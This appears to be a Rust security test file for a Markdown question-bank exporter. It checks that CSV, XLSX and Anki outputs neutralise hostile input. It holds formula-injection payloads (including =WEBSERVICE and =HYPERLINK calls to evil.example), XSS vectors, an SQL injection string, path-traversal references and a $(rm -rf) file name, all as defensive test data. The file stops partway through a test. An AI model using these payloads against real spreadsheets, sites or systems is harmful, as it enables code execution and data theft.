//! The threats of docs/security.md, one test (or more) each: hostile
//! question banks exported through the real binary (and, where the CLI
//! cannot carry the input, through the library), the outputs read back the
//! way their consumers read them.
#![allow(clippy::unwrap_used)]

use calamine::{Data, Reader, Xlsx};
use qbank_export::rows::ENTRY_COLUMNS;
use std::io::{Cursor, Read};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn qbank_in(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_qbank"))
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .output()
        .unwrap()
}

fn ok(run: &Output) {
    assert!(
        run.status.success(),
        "exit {:?}: {}",
        run.status.code(),
        String::from_utf8_lossy(&run.stderr)
    );
}

/// Standard error without whitespace and miette's gutters (miette wraps
/// long lines, at spaces or after a hyphen).
fn stderr(run: &Output) -> String {
    String::from_utf8_lossy(&run.stderr)
        .split_whitespace()
        .filter(|w| *w != "|")
        .collect()
}

/// The members of a zip file, by name, in order.
fn members(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            f.read_to_end(&mut bytes).unwrap();
            (f.name().to_owned(), bytes)
        })
        .collect()
}

fn member(path: &Path, name: &str) -> Vec<u8> {
    members(path)
        .into_iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no {name} in {}", path.display()))
        .1
}

/// The notes' fields (`notes.flds` split on U+001F), read from the package's
/// `collection.anki2` with SQLite.
fn note_fields(apkg: &Path, scratch: &Path) -> Vec<Vec<String>> {
    let db = scratch.join(format!(
        "{}.anki2",
        apkg.file_stem().unwrap().to_string_lossy()
    ));
    std::fs::write(&db, member(apkg, "collection.anki2")).unwrap();
    let conn = rusqlite::Connection::open(&db).unwrap();
    let mut stmt = conn.prepare("SELECT flds FROM notes ORDER BY id").unwrap();
    stmt.query_map([], |r| r.get::<_, String>(0))
        .unwrap()
        .map(|f| f.unwrap().split('\u{1f}').map(str::to_owned).collect())
        .collect()
}

// ---------------------------------------------------------------------------
// CSV: formula injection
// ---------------------------------------------------------------------------

/// Every text column of the CSV export; `number`, `line` and `end_line`
/// are written by qbank as digits.
const CSV_TEXT_COLUMNS: [usize; 9] = [0, 2, 3, 4, 5, 8, 9, 14, 15];

const HOSTILE_BANK: &str = "# =cmd|' /C calc'!A0\n\n## 1. =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {#@evil-id}\n\n**Question:** =1+1\n\n**Answer:** +cmd|' /C calc'!A0\n\n**Analysis:** -2+3\n\n## 2. @SUM(A1:A9)\n\n**Question:** @x\n\n**Answer:**\n\n- a bullet list\n\n**Analysis:** =WEBSERVICE(\"http://evil.example\")\n\n## 3. +1\n\n**Question:** -1\n\n**Answer:**\n\n1. **=SUM(A1:A9):** +1\n";

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_formula_prefixes_are_neutralised() {
    // The rule itself, for every prefix.
    for prefix in ["=", "+", "-", "@", "\t", "\r"] {
        let cell = format!("{prefix}1+1");
        assert!(qbank_export::formula::needs_escape(&cell), "{prefix:?}");
        assert_eq!(qbank_export::formula::escape(&cell), format!("'{cell}"));
    }
    // A line feed or a space is no formula (OWASP); sources start with one.
    for safe in [
        "1+1",
        "a=b",
        " =1",
        "\n=1",
        "\n\n## 2.",
        "'a",
        "",
        "中文",
        "（=）",
    ] {
        assert!(!qbank_export::formula::needs_escape(safe), "{safe:?}");
    }
    // A cell that already starts like an escape gets one more apostrophe,
    // so that `qbank import` takes exactly one off.
    assert_eq!(qbank_export::formula::escape("'=1"), "''=1");
    assert_eq!(qbank_export::formula::unescape("''=1"), "'=1");

    // Every text column through the binary: titles, bodies, the id, the
    // document title, and file names starting with each prefix (tab,
    // carriage return and line feed reach a cell only through a file name).
    let dir = tempfile::tempdir().unwrap();
    let mut names = vec!["=1+1.md", "+x.md", "-x.md", "@x.md"];
    if cfg!(unix) {
        names.extend(["\tx.md", "\rx.md", "\nx.md"]);
    }
    for name in &names {
        std::fs::write(dir.path().join(name), HOSTILE_BANK).unwrap();
    }
    let mut args = vec!["export", "--to", "csv", "-o", "out.csv", "-q", "--"];
    args.extend(&names);
    ok(&qbank_in(dir.path(), &args));
    let rows = csv_rows(&std::fs::read(dir.path().join("out.csv")).unwrap());
    assert_eq!(rows.len(), 1 + 3 * names.len());
    let mut dangerous = 0;
    for row in &rows[1..] {
        for &col in &CSV_TEXT_COLUMNS {
            let cell = &row[col];
            assert!(
                !matches!(
                    cell.as_bytes().first(),
                    Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
                ),
                "column {col} starts like a formula: {cell:?}"
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                assert!(qbank_export::formula::needs_escape(rest), "{cell:?}");
                dangerous += 1;
            }
        }
    }
    // Each file: its name (but `\nx.md`), 3 titles, 7 bodies (the list
    // too), the id and the document title 3 times; not the sources of
    // entries 2 and 3, which start with the blank lines before them.
    let names_escaped = names.iter().filter(|n| !n.starts_with('\n')).count();
    assert_eq!(
        dangerous,
        names_escaped * 3 + names.len() * (3 + 7 + 1 + 3),
        "{rows:?}"
    );

    // --no-formula-escape: the cells verbatim (for data tools, not
    // spreadsheets).
    let mut args = vec![
        "export",
        "--to",
        "csv",
        "-o",
        "raw.csv",
        "-q",
        "--no-formula-escape",
        "--",
    ];
    args.extend(&names);
    ok(&qbank_in(dir.path(), &args));
    let raw = csv_rows(&std::fs::read(dir.path().join("raw.csv")).unwrap());
    assert_eq!(raw[1][3], "=1+1");
    assert_eq!(raw[1][9], "=cmd|' /C calc'!A0");
    assert!(raw[1..].iter().all(|r| !r[0].starts_with('\'')));
}

// ---------------------------------------------------------------------------
// XLSX: text is never a formula; special and control characters
// ---------------------------------------------------------------------------

fn cell_text(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) => format!("{f}"),
        other => panic!("unexpected cell {other:?}"),
    }
}

fn xlsx_sheet(bytes: &[u8], name: &str) -> Vec<Vec<String>> {
    let mut workbook = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let range = workbook.worksheet_range(name).unwrap();
    range
        .rows()
        .map(|r| r.iter().map(cell_text).collect())
        .collect()
}

/// The `<c …>` start tags of a sheet's XML.
fn cell_tags(xml: &str) -> Vec<&str> {
    xml.match_indices("<c ")
        .map(|(i, _)| &xml[i..i + xml[i..].find('>').unwrap() + 1])
        .collect()
}

#[test]
fn xlsx_cells_are_never_formulas() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("=evil.md"), HOSTILE_BANK).unwrap();
    std::fs::write(dir.path().join("=graded.md"), HOSTILE_GRADED).unwrap();
    let run = qbank_in(
        dir.path(),
        &[
            "export",
            "=evil.md",
            "=graded.md",
            "--to",
            "xlsx",
            "-o",
            "out.xlsx",
        ],
    );
    ok(&run);
    let path = dir.path().join("out.xlsx");
    let sheets: Vec<String> = members(&path)
        .into_iter()
        .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
        .map(|(_, b)| String::from_utf8(b).unwrap())
        .collect();
    assert_eq!(sheets.len(), 6);
    for xml in &sheets {
        // No formula element, and every cell is an inline string or a
        // number: never `t="str"` (a formula's cached text), `t="e"` or `t="b"`.
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{xml}");
        for tag in cell_tags(xml) {
            assert!(
                tag.contains("t=\"inlineStr\"") || !tag.contains(" t="),
                "{tag}"
            );
        }
    }
    // calamine agrees: no formulas, and the text is the text.
    let bytes = std::fs::read(&path).unwrap();
    let mut workbook = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    for name in [
        "Entries",
        "Items",
        "Options",
        "Blanks",
        "Graded",
        "Documents",
    ] {
        let formulas = workbook.worksheet_formula(name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name}"
        );
    }
    let rows = xlsx_sheet(&bytes, "Entries");
    assert_eq!(rows[1][0], "=evil.md");
    assert_eq!(
        rows[1][2],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(rows[1][3], "=1+1");
    assert_eq!(rows[1][4], "+cmd|' /C calc'!A0");
    assert_eq!(rows[1][9], "=cmd|' /C calc'!A0");
    assert_eq!(rows[2][5], "=WEBSERVICE(\"http://evil.example\")");
    let items = xlsx_sheet(&bytes, "Items");
    assert_eq!(items[1][6..8], ["=SUM(A1:A9)", "+1"]);
    let documents = xlsx_sheet(&bytes, "Documents");
    assert_eq!(documents[1][0..2], ["=evil.md", "=cmd|' /C calc'!A0"]);
    // What graded entries grade stays text too, in Entries and in Graded.
    let graded = ENTRY_COLUMNS.iter().position(|c| *c == "graded").unwrap();
    let cells: Vec<&str> = rows[4..].iter().map(|r| r[graded].as_str()).collect();
    assert_eq!(cells, ["=1+1 | @SUM(A1)", "=A1 → +B2\n-C3 → @D4\n→ =E5"]);
    let graded = xlsx_sheet(&bytes, "Graded");
    let items: Vec<&str> = graded[1..].iter().map(|r| r[5].as_str()).collect();
    assert_eq!(items, ["=1+1", "@SUM(A1)", "=A1", "-C3", ""]);
    assert_eq!(graded[5][6], "=E5");
}

/// Graded entries whose answers look like formulas: a short answer, a
/// matching with a distractor.
const HOSTILE_GRADED: &str = "# Graded\n\n## 1. Sum?\n\n**Answer:** =1+1\nAccepted: @SUM(A1)\n\n\
     ## 2. Match the cells.\n\n**Answer:**\n\n- =A1 → +B2\n- -C3 → @D4\n- → =E5\n";

#[test]
fn graded_cells_are_neutralised_in_csv() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("g.md"), HOSTILE_GRADED).unwrap();
    ok(&qbank_in(
        dir.path(),
        &["export", "g.md", "--to", "csv", "-o", "out.csv"],
    ));
    let rows = csv_rows(&std::fs::read(dir.path().join("out.csv")).unwrap());
    let graded = ENTRY_COLUMNS.iter().position(|c| *c == "graded").unwrap();
    assert_eq!(rows[0][graded], "graded");
    assert_eq!(rows[1][graded], "'=1+1 | @SUM(A1)");
    assert_eq!(rows[2][graded], "'=A1 → +B2\n-C3 → @D4\n→ =E5");
    // And they come back as written.
    let run = qbank_in(dir.path(), &["import", "out.csv", "-o", "back.md"]);
    ok(&run);
    let back = std::fs::read_to_string(dir.path().join("back.md")).unwrap();
    assert!(
        back.contains("Accepted: @SUM(A1)") && back.contains("- → =E5"),
        "{back}"
    );
}

/// Whether every character of `xml` is allowed by XML 1.0 (`Char`).
fn valid_xml_chars(xml: &str) -> bool {
    xml.chars().all(|c| {
        matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
            || c >= '\u{10000}'
    })
}

/// Characters that are hostile to an XML writer, with what the cell must
/// read back as.
fn hostile_text() -> String {
    let controls: String = (1u8..0x20)
        .filter(|b| *b != b'\n' && *b != b'\r')
        .map(char::from)
        .collect();
    format!(
        "xml[<>&\"' ]]> <![CDATA[x]]> &amp; &#x41;] controls[{controls}] nonchars[\u{FFFE}\u{FFFF}] escapes[_x0041_ _x005F_ _xD800_] astral[🎉𝔸]"
    )
}

#[test]
fn xlsx_special_and_control_characters_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let text = hostile_text();
    let bank = format!(
        "# T {text}\n\n## 1. {text}\n\n**Question:** {text}\n\n**Answer:**\n\n1. **{text}:** {text}\n"
    );
    std::fs::write(dir.path().join("bank.md"), &bank).unwrap();
    let run = qbank_in(
        dir.path(),
        &["export", "bank.md", "--to", "xlsx,json", "-o", "out"],
    );
    ok(&run);
    let path = dir.path().join("out/bank.xlsx");
    // Every part is well-formed as far as characters go: the control
    // characters and U+FFFE/U+FFFF are written as `_xHHHH_` escapes.
    for (name, bytes) in members(&path) {
        let xml = String::from_utf8(bytes).unwrap();
        assert!(valid_xml_chars(&xml), "{name}");
    }
    // The cells read back as the model's text (the JSON export).
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("out/bank.json")).unwrap()).unwrap();
    let entry = &json["documents"][0]["entries"][0];
    let bytes = std::fs::read(&path).unwrap();
    let rows = xlsx_sheet(&bytes, "Entries");
    assert_eq!(rows[1][2], entry["title"].as_str().unwrap());
    assert_eq!(rows[1][3], entry["question"].as_str().unwrap());
    assert_eq!(rows[1][3], text);
    assert_eq!(rows[1][9], json["documents"][0]["title"].as_str().unwrap());
    let items = xlsx_sheet(&bytes, "Items");
    assert_eq!(items[1][6], text, "term");
    assert_eq!(items[1][7], text, "text");
}

#[test]
fn xlsx_nul_and_carriage_return_through_the_library() {
    // The CLI refuses a file with a NUL byte (a binary file) and turns
    // carriage returns into line ends; a library caller can still pass
    // them. Parse with U+0001 and U+0002 standing in, then swap them in.
    let md = "# D\n\n## 1. T\n\n**Question:** a\u{1}b\u{2}c\n";
    let mut file =
        qbank_core::parse_bytes("bank.md", md.as_bytes().to_vec(), &Default::default()).unwrap();
    file.source.text = file
        .source
        .text
        .replace('\u{1}', "\0")
        .replace('\u{2}', "\r");
    let xlsx = qbank_xlsx::create(Vec::new(), &Default::default(), &Default::default());
    let written = crate::util::export_parsed(xlsx, &[&file]);
    for (name, bytes) in members_of(&written) {
        let xml = String::from_utf8(bytes).unwrap();
        assert!(valid_xml_chars(&xml), "{name}");
    }
    let rows = xlsx_sheet(&written, "Entries");
    assert_eq!(rows[1][3], "a\0b\rc");
}

fn members_of(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut out = Vec::new();
            f.read_to_end(&mut out).unwrap();
            (f.name().to_owned(), out)
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Anki: scripts, event handlers, dangerous URLs and styles
// ---------------------------------------------------------------------------

/// Every way this test knows to put script into a card.
const SCRIPT_BANK: &str = r#"# <script>alert('deck')</script>Deck

## 1. <script>alert(1)</script><img src=x onerror=alert(1)>Title

**Question:** <script>alert(2)</script> <SCRIPT SRC=//evil.example/x.js></SCRIPT> <img src=x onerror="alert(3)"> <svg onload=alert(4)><circle r=1 /></svg> <body onload=alert(5)> <div onmouseover="alert(6)">hover</div> <details open ontoggle=alert(7)><summary>s</summary></details>

**Answer:** [a](javascript:alert(8)) [b](JaVaScRiPt:alert(9)) [c](&#106;avascript:alert(10)) [d](vbscript:msgbox(11)) [e](data:text/html,<script>alert(12)</script>) <javascript:alert(13)> <a href=" javascript:alert(14)">f</a> <a href="jav&#x09;ascript:alert(15)">g</a> <a href="java
script:alert(16)">h</a> [j](https://ok.example "x\" onmouseover=\"alert(18)")

**Analysis:** <iframe src="https://evil.example"></iframe> <object data="x.swf"></object> <embed src="x.swf"> <style>body{display:none}</style> <link rel="stylesheet" href="https://evil.example/x.css"> <meta http-equiv="refresh" content="0;url=https://evil.example"> <form action="https://evil.example"><input name=p></form> <base href="https://evil.example/"> <table><tr><td style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/t.png)">z</td></tr></table> <math><mtext><mglyph><style><img src=x onerror=alert(19)></style></mglyph></mtext></math> $<img src=x onerror=alert(20)>$

```"><script>alert(21)</script>
code
```

## 2. It's "safe"'); DROP TABLE notes; --

**Question:** a < b && c > d, `<script>` in code, [link](https://example.com/x?a=1&b=2), $x<y$

**Answer:**

| left | right |
|:-----|------:|
| 1    | 2     |
"#;

/// The tags of an HTML fragment: (lowercase name, raw attributes text).
/// Text in the fields has `<` escaped, so every `<` opens a tag.
fn tags(html: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        let tag = &rest[i + 1..];
        let end = tag.find('>').unwrap_or(tag.len());
        let inner = tag[..end].trim_start_matches('/');
        let name_len = inner
            .find(|c: char| c.is_whitespace() || c == '/')
            .unwrap_or(inner.len());
        out.push((
            inner[..name_len].to_ascii_lowercase(),
            inner[name_len..].to_owned(),
        ));
        rest = &tag[end..];
    }
    out
}

/// Attribute (name, value) pairs of a tag's attribute text, as written by
/// ammonia and pulldown-cmark (`name="value"`).
fn attributes(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = text.trim();
    while !rest.is_empty() {
        let name_end = rest
            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_end].to_ascii_lowercase();
        rest = &rest[name_end..];
        let mut value = String::new();
        if let Some(r) = rest.strip_prefix("=\"") {
            let close = r.find('"').unwrap();
            value = r[..close].to_owned();
            rest = &r[close + 1..];
        }
        if !name.is_empty() {
            out.push((name, value));
        }
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
    }
    out
}

/// Checks a card field: only harmless tags, no event handlers, URLs only
/// http(s), mailto or relative, styles only `text-align`.
fn assert_safe_field(field: &str) {
    const FORBIDDEN: [&str; 15] = [
        "script", "iframe", "object", "embed", "style", "link", "meta", "form", "base", "svg",
        "math", "body", "frame", "frameset", "applet",
    ];
    for (name, attrs) in tags(field) {
        assert!(!FORBIDDEN.contains(&name.as_str()), "<{name}> in {field}");
        // URLs that run code or load resources, anywhere in a tag (text
        // such as a link's visible `javascript:…` label is only text).
        let lower = attrs.to_ascii_lowercase();
        for bad in ["javascript:", "vbscript:", "data:text", "url("] {
            assert!(!lower.contains(bad), "{bad} in <{name}{attrs}>");
        }
        for (attr, value) in attributes(&attrs) {
            assert!(!attr.starts_with("on"), "{attr} on <{name}> in {field}");
            let decoded = value.replace("&amp;", "&").to_ascii_lowercase();
            if matches!(attr.as_str(), "href" | "src" | "action" | "formaction") {
                let scheme = decoded
                    .split_once(':')
                    .map(|(s, _)| s)
                    .filter(|s| !s.contains(['/', '?', '#']));
                assert!(
                    scheme.is_none_or(|s| matches!(s, "http" | "https" | "mailto")),
                    "{attr}={value} in {field}"
                );
            }
            if attr == "style" {
                assert!(
                    decoded.is_empty()
                        || (decoded.starts_with("text-align:") && !decoded.contains(';')),
                    "style={value} in {field}"
                );
            }
        }
    }
    assert!(!field.to_ascii_lowercase().contains("<script"), "{field}");
}

/// `--text html` cells (issue 22, item 3): CSV and XLSX bodies go through
/// the one sanitised renderer, as the page, Anki and the platforms do.
#[test]
fn html_cells_carry_no_scripts_or_event_handlers() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("evil.md"), SCRIPT_BANK).unwrap();
    ok(&qbank_in(
        dir.path(),
        &[
            "export", "evil.md", "--to", "csv,xlsx", "--text", "html", "-o", "out",
        ],
    ));
    let csv = csv_rows(&std::fs::read(dir.path().join("out/evil.csv")).unwrap());
    let xlsx = xlsx_sheet(
        &std::fs::read(dir.path().join("out/evil.xlsx")).unwrap(),
        "Entries",
    );
    for rows in [&csv, &xlsx] {
        let header = &rows[0];
        let bodies: Vec<usize> = ["question", "answer", "analysis"]
            .iter()
            .map(|name| header.iter().position(|h| h == name).unwrap())
            .collect();
        assert_eq!(rows.len(), 3);
        for row in &rows[1..] {
            for &col in &bodies {
                assert_safe_field(&row[col]);
            }
        }
        // What is not script survives: escaped text, safe links, tables.
        assert!(rows[2][bodies[0]].contains("a &lt; b &amp;&amp; c &gt; d"));
        assert!(rows[2][bodies[1]].contains("<table>"));
    }
}

#[test]
fn anki_fields_carry_no_scripts_or_event_handlers() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("evil.md"), SCRIPT_BANK).unwrap();
    ok(&qbank_in(
        dir.path(),
        &["export", "evil.md", "--to", "anki,anki-txt", "-o", "out"],
    ));
    let notes = note_fields(&dir.path().join("out/evil.apkg"), dir.path());
    assert_eq!(notes.len(), 2);
    for fields in &notes {
        assert_eq!(fields.len(), qbank_anki::FIELDS.len());
        for field in fields {
            assert_safe_field(field);
        }
    }
    // Content that is not script survives: escaped text, code, safe links,
    // table alignment.
    let safe = &notes[1];
    assert!(
        safe[0].contains("a &lt; b &amp;&amp; c &gt; d"),
        "{}",
        safe[0]
    );
    assert!(
        safe[0].contains("<code>&lt;script&gt;</code>"),
        "{}",
        safe[0]
    );
    assert!(
        safe[0].contains("href=\"https://example.com/x?a=1&amp;b=2\""),
        "{}",
        safe[0]
    );
    assert!(
        safe[1].contains("style=\"text-align: right\""),
        "{}",
        safe[1]
    );
    assert!(safe[0].contains("\\(x&lt;y\\)"), "{}", safe[0]);

    // The text format holds the same fields.
    let txt = std::fs::read_to_string(dir.path().join("out/evil.txt")).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b'\t')
        .has_headers(false)
        .flexible(true)
        .comment(Some(b'#'))
        .from_reader(txt.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    for (row, fields) in rows.iter().zip(&notes) {
        let txt_fields: Vec<&str> = row.iter().skip(3).take(6).collect();
        assert_eq!(txt_fields, *fields);
    }
    // Quotes reach SQLite as data (bound parameters): the title reads back
    // as written, HTML-escaped. The deck name is the document title's text.
    assert_eq!(safe[3], "It's &quot;safe&quot;'); DROP TABLE notes; --");
    assert_eq!(&rows[0][2], "alert('deck')Deck");
}

// ---------------------------------------------------------------------------
// Anki: media paths
// ---------------------------------------------------------------------------

/// A 1x1 PNG.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89, 0, 0, 0, 0x0A, 0x49, 0x44, 0x41, 0x54,
    0x78, 0x9C, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0D, 0x0A, 0x2D, 0xB4, 0, 0, 0, 0, 0x49, 0x45, 0x4E,
    0x44, 0xAE, 0x42, 0x60, 0x82,
];
const SECRET: &[u8] = b"SECRET: outside the bank's folder";

/// `tmp/secret.png` (outside), `tmp/bank/img/ok.png` (inside),
/// `tmp/bank/img/link.png` -> `../../secret.png` (on Unix).
fn media_tree() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("bank/img")).unwrap();
    std::fs::write(dir.path().join("secret.png"), SECRET).unwrap();
    std::fs::write(dir.path().join("bank/img/ok.png"), PNG).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("../../secret.png", dir.path().join("bank/img/link.png")).unwrap();
    dir
}

fn bank_with_image(dir: &Path, reference: &str) {
    std::fs::write(
        dir.join("bank/bank.md"),
        format!("# B\n\n## 1. T\n\n**Question:** look\n\n![x]({reference})\n"),
    )
    .unwrap();
}

#[test]
fn media_outside_the_document_folder_is_refused() {
    let dir = media_tree();
    let absolute = dir.path().join("secret.png").canonicalize().unwrap();
    let absolute = absolute.to_str().unwrap();
    let mut refused = vec![
        "../secret.png".to_owned(),
        "img/../../secret.png".to_owned(),
        "%2e%2e/secret.png".to_owned(),
        "..%2Fsecret.png".to_owned(),
        absolute.to_owned(),
        format!("<{absolute}>"),
    ];
    if cfg!(unix) {
        refused.push("img/link.png".to_owned());
    }
    for reference in &refused {
        bank_with_image(dir.path(), reference);
        let out = dir.path().join("out.apkg");
        let run = qbank_in(
            dir.path(),
            &["export", "bank/bank.md", "--to", "anki", "-o", "out.apkg"],
        );
        assert_eq!(run.status.code(), Some(2), "{reference} was bundled");
        let err = stderr(&run);
        assert!(
            err.contains("leavesthedocument'sfolder") && err.contains("--allow-outside-media"),
            "{reference}: {err}"
        );
        assert!(!out.exists(), "{reference}: no package is written");
    }
    // file: URLs are not paths: never read.
    bank_with_image(dir.path(), &format!("file://{absolute}"));
    let run = qbank_in(
        dir.path(),
        &["export", "bank/bank.md", "--to", "anki", "-o", "out.apkg"],
    );
    assert_eq!(run.status.code(), Some(2));
    assert!(!dir.path().join("out.apkg").exists());

    // Inside the folder: bundled. With --allow-outside-media, the outside
    // file too (the user's explicit choice).
    bank_with_image(dir.path(), "img/ok.png");
    ok(&qbank_in(
        dir.path(),
        &["export", "bank/bank.md", "--to", "anki", "-o", "in.apkg"],
    ));
    assert_eq!(member(&dir.path().join("in.apkg"), "0"), PNG);
    bank_with_image(dir.path(), "../secret.png");
    ok(&qbank_in(
        dir.path(),
        &[
            "export",
            "bank/bank.md",
            "--to",
            "anki",
            "-o",
            "allowed.apkg",
            "--allow-outside-media",
        ],
    ));
    assert_eq!(member(&dir.path().join("allowed.apkg"), "0"), SECRET);
}

#[test]
fn standard_input_and_raw_html_images_read_no_file() {
    let dir = media_tree();
    // Standard input has no folder: a local image is an error.
    let mut child = Command::new(env!("CARGO_BIN_EXE_qbank"))
        .current_dir(dir.path().join("bank"))
        .args(["export", "-", "--to", "anki", "-o", "../stdin.apkg"])
        .env("NO_COLOR", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(
        child.stdin.as_mut().unwrap(),
        b"# B\n\n## 1. T\n\n**Question:** ![x](img/ok.png)\n",
    )
    .unwrap();
    let run = child.wait_with_output().unwrap();
    assert_eq!(run.status.code(), Some(2));
    assert!(stderr(&run).contains("standardinputhasnofolder"));

    // An `<img>` tag in raw HTML is left as written, never read or bundled,
    // whatever its path.
    std::fs::write(
        dir.path().join("bank/bank.md"),
        "# B\n\n## 1. T\n\n**Question:** <img src=\"../secret.png\"> <img src=\"/etc/passwd\"> <img src=\"img/link.png\">\n",
    )
    .unwrap();
    ok(&qbank_in(
        dir.path(),
        &["export", "bank/bank.md", "--to", "anki", "-o", "raw.apkg"],
    ));
    let package = members(&dir.path().join("raw.apkg"));
    let names: Vec<&str> = package.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["collection.anki2", "media"]);
    assert_eq!(package[1].1, b"{}");
}

// ---------------------------------------------------------------------------
// Anki: zip member names and media names
// ---------------------------------------------------------------------------

#[test]
fn apkg_members_are_collection_media_and_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let img = dir.path().join("bank/img");
    std::fs::create_dir_all(&img).unwrap();
    let mut names = vec![
        "a b.png",
        "..png",
        "évil;name$(rm -rf).png",
        "图 片.png",
        "x%2F..%2Fy.png",
        "-rf.png",
    ];
    if cfg!(unix) {
        names.extend(["back\\slash.png", "quote\"'<>|.png", "new\nline.png"]);
    }
    let mut body = String::from("# B\n\n## 1. T\n\n**Question:** images\n\n");
    for (i, name) in names.iter().enumerate() {
        let mut png = PNG.to_vec();
        png.push(i as u8); // distinct files
        std::fs::write(img.join(name), png).unwrap();
        let encoded = name
            .replace('%', "%25")
            .replace(' ', "%20")
            .replace('\n', "%0A")
            .replace('<', "%3C")
            .replace('>', "%3E")
            .replace('\\', "%5C")
            .replace('(', "%28")
            .replace(')', "%29");
        body.push_str(&format!("![{i}](img/{encoded})\n\n"));
    }
    std::fs::write(dir.path().join("bank/bank.md"), body).unwrap();
    ok(&qbank_in(
        dir.path(),
        &["export", "bank/bank.md", "--to", "anki", "-o", "out.apkg"],
    ));
    let package = members(&dir.path().join("out.apkg"));
    let member_names: Vec<&str> = package.iter().map(|(n, _)| n.as_str()).collect();
    let mut expected = vec!["collection.anki2".to_owned(), "media".to_owned()];
    expected.extend((0..names.len()).map(|i| i.to_string()));
    assert_eq!(member_names, expected);
    // The media map: the names Anki writes into its media folder. Flat,
    // prefixed, only letters, digits, `.`, `-` and `_`.
    let map: serde_json::Value = serde_json::from_slice(&package[1].1).unwrap();
    let map = map.as_object().unwrap();
    assert_eq!(map.len(), names.len());
    for (key, name) in map {
        assert!(key.parse::<usize>().is_ok(), "{key}");
        let name = name.as_str().unwrap();
        assert!(name.starts_with("qbank-"), "{name}");
        assert!(
            name.chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_')),
            "{name:?}"
        );
        assert!(name.len() < 200, "{name}");
    }
}

// ---------------------------------------------------------------------------
// Very large and deeply nested inputs
// ---------------------------------------------------------------------------

/// Run qbank with a deadline, watching its peak memory (VmHWM, on Linux).
/// Returns the output, the time taken and the peak seen, in KiB.
fn bounded(dir: &Path, args: &[&str], deadline: Duration) -> (Output, Duration, u64) {
    let start = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_qbank"))
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak_kib = 0;
    loop {
        if let Ok(status) = std::fs::read_to_string(&status_file) {
            let hwm = status
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok());
            peak_kib = peak_kib.max(hwm.unwrap_or(0));
        }
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if start.elapsed() > deadline {
            child.kill().unwrap();
            let _ = child.wait();
            panic!("{args:?} ran for over {deadline:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    (output, start.elapsed(), peak_kib)
}

#[test]
fn large_and_deep_inputs_stay_bounded() {
    const HEAD: &str = "# Big\n\n## 1. deep\n\n**Question:** q\n\n**Answer:**\n\n";
    let big_code = format!(
        "```\n{}```\n",
        format!("{}\n", "x".repeat(99)).repeat(10_000)
